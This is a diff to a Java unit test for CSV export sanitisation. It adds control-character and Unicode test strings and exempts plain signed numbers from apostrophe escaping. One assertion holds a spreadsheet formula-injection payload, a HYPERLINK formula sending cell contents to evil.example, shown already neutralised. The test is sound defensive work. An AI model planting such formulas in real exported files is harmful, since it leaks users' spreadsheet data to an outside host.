@@ -38,7 +38,8 @@ class HostileContentTest {
             "line one\nline two", "windows\r\nline", "trailing newline\n", " leading and trailing ",
             "back\\slash", "comma, separated; semi", "emoji 😀 👩🏽‍⚕️ ✔", "עברית עם English בפנים", "العربية 123",
             "\u202eRLO override\u202c", "zero\u200bwidth", "line\u2028separator", "bom\ufeffinside", "",
-            "---", "...", "<<");
+            "---", "...", "<<", "-18", "+1.5", "nul\u0000char", "bell\u0007", "esc\u001b[31m",
+            "nel\u0085line", "del\u007f", "c1\u009bcsi", "surrogate pair 𝄞", "\ud83d\ude00 at start");
 
     @TempDir
     Path tmp;
@@ -97,12 +98,13 @@ class HostileContentTest {
         for (String tag : List.of("en", "he", "ru")) {
             Map<String, Object> json = BundleReaders.json(bundle.resolve("json/" + tag + "/hostile.json"));
             Map<String, Object> expected = mapStrings(json,
-                    s -> !s.isEmpty() && "=+-@\t\r".indexOf(s.charAt(0)) >= 0 ? "'" + s : s);
+                    s -> !s.isEmpty() && "=+-@\t\r".indexOf(s.charAt(0)) >= 0
+                            && !s.matches("[+-]?[0-9]+(\\.[0-9]+)?") ? "'" + s : s);
             assertThat(BundleReaders.csvGuide(bundle.resolve("csv/" + tag + "/hostile"))).as(tag).isEqualTo(expected);
         }
         List<Map<String, String>> steps = BundleReaders.csv(bundle.resolve("csv/en/hostile/steps.csv"));
         assertThat(steps).extracting(r -> r.get("text")).contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
-                "'@SUM(A1)", "'+1-2", "'-2+3", "'\tTab first", "'\rCR first", "no", "'single'");
+                "'@SUM(A1)", "'+1-2", "'-2+3", "'\tTab first", "'\rCR first", "no", "'single'", "-18", "+1.5");
     }
 
     @Test
